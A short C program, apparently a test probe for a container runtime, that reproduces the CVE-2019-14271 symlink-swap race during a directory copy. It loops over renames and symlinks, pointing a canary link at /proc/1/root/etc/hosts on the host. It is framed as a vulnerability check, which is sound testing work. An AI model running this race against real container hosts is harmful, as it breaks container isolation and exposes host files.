/*
 * does: has links where the keeper unpacks a tree, and exchanges them meanwhile (CVE-2019-14271)
 * while: tree-in /race
 * time: 120
 */
int main(void) {
    char folder[PATH_MAX];
    snprintf(folder, sizeof folder, "%s", told("CANARY"));
    *strrchr(folder, '/') = 0;
    mkdir("/race", 0755);
    symlink(told("CANARY"), "/race/canary");
    double end = seconds() + 3;
    while (seconds() < end) {
        rename("/race/sub", "/race/away");
        symlink(folder, "/race/sub");
        unlink("/race/canary");
        symlink("/proc/1/root/etc/hosts", "/race/canary");
        unlink("/race/sub");
        rename("/race/away", "/race/sub");
    }
    return 0;
}
